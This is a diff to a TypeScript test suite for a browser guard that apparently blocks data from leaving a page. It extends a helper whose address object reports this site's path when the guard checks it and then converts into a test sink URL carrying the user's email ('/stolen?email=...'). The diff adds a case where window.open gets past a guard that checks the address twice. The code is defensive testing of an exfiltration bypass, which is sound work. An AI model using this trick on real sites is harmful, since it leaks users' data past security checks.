@@ -21,10 +21,10 @@ beforeEach(() => {
   sink = createSink();
 });
 
-/** An address that is this site's the first time it is converted, and the sink's (with the page's data) after. */
-const shifty = (path: string, to = () => sink.url('/stolen?email=ada@example.com')) => {
+/** An address that is this site's the first `times` it is converted, and the sink's (with the page's data) after. */
+const shifty = (path: string, to = () => sink.url('/stolen?email=ada@example.com'), times = 1) => {
   let converted = 0;
-  return { toString: () => (converted++ ? to() : path) };
+  return { toString: () => (converted++ >= times ? to() : path) };
 };
 
 const page = `${says('Click "Save draft".')}<label>Email <input value="ada@example.com"></label><button type="button" id="save">Save draft</button><iframe name="result" style="width:300px;height:60px"></iframe>`;
@@ -86,7 +86,8 @@ describe('a page whose arguments convert differently when the guard judges them 
   });
 
   it('window.open into a frame of the page, of an address object whose toString changes', async () => {
-    await attack({ page, answer: true, setup: onSave(() => window.open(shifty('/api/draft') as never, 'result')) });
+    // Twice this site's: a guard that converted it once to test for an empty address and again to resolve it.
+    await attack({ page, answer: true, setup: onSave(() => window.open(shifty('/api/draft', undefined, 2) as never, 'result')) });
     expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
   });
 
